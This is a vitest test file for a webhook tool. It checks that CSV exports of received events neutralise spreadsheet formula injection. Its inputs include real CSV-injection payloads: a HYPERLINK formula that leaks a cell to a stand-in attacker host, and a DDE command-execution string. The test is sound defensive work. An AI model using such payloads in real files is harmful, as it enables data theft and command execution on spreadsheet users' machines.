import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, formulaSafe } from '../../src/report/csv.js';
import { sampleBody } from '../../src/hooks/samples.js';
import { taskSign } from '../../src/signing/sign.js';
import { runCli } from '../helpers/cli.js';
import { post, startServeHooks, tempDir } from './helpers.js';
import { runUi } from './ui-helpers.js';

// Anyone can send a notification (workflow.api_push is not signed): a CSV of received events must
// not hand a spreadsheet a formula to run (OWASP, CSV injection).

const KEY = 'csv-key';

describe('CSV exports of received events run nothing in a spreadsheet', () => {
  it('hooks events --format csv and the inspector export: a leading = + - @ tab or CR gets a quote mark', async () => {
    const log = join(tempDir(), 'events.ndjson');
    const s = await startServeHooks({ key: [KEY], log });
    const push = sampleBody('workflow.api_push') as {
      call: Record<string, unknown>;
      callee: Record<string, unknown>;
    };
    push.call.task_id = '=HYPERLINK("http://evil.example/?leak="&A1,"pay here")';
    push.call.intention = "@SUM(1+1)*cmd|' /C calc'!A0";
    push.callee.callee_number = '+1-2+cmd';
    expect((await post(s.url, JSON.stringify(push))).status).toBe(200);
    const taskId = '\t-2+3';
    const task = { TaskID: taskId, TaskName: 'x', PlanName: '\r=1+1', Sign: taskSign(taskId, KEY) };
    expect((await post(s.url, JSON.stringify(task))).status).toBe(200);
    // A genuine callee: its number stays a number.
    const genuine = sampleBody('workflow.api_push') as { call: { task_id: string; intention: string } };
    expect((await post(s.url, JSON.stringify(genuine))).status).toBe(200);
    await s.stop();

    const csv = await runCli(['hooks', 'events', '--log', log, '--format', 'csv', '--show-numbers']);
    expect(csv.code, csv.err).toBe(0);
    const rows = parse(csv.out, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => [r.plan, r.task, r.callee, r.status])).toEqual([
      ['', `'${push.call.task_id}`, "'+1-2+cmd", `'${push.call.intention}`],
      // A tab or carriage return is shown as text (\x09, \x0d) before anything else: it starts nothing.
      ['\\x0d=1+1', '\\x09-2+3', '', 'end'],
      ['', genuine.call.task_id, '+6281234567001', genuine.call.intention],
    ]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r](?![\d*]+$)/);

    // The inspector's export is the same bytes.
    const ui = await runUi(['hooks', 'ui', '--log', log, '--port', '0']);
    try {
      const exported = await post(`${ui.ui}api/export?format=csv&reveal=1`, '', {}, 'GET');
      expect(exported.body).toBe(csv.out);
    } finally {
      ui.child.kill('SIGTERM');
    }
  });

  it('formulaSafe: any text either stays or gets one leading quote mark, and never starts a formula; CSV reads it back', () => {
    const text = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(text, (t) => {
        const safe = formulaSafe(t);
        expect([t, `'${t}`]).toContain(safe);
        if (/^[=+\-@\t\r]/.test(safe)) expect(safe).toMatch(/^[+-]?[\d.*]+$/);
        expect(parse(csvLine([safe, 'x']), { relax_column_count: true })).toEqual([[safe, 'x']]);
      }),
    );
  });
});
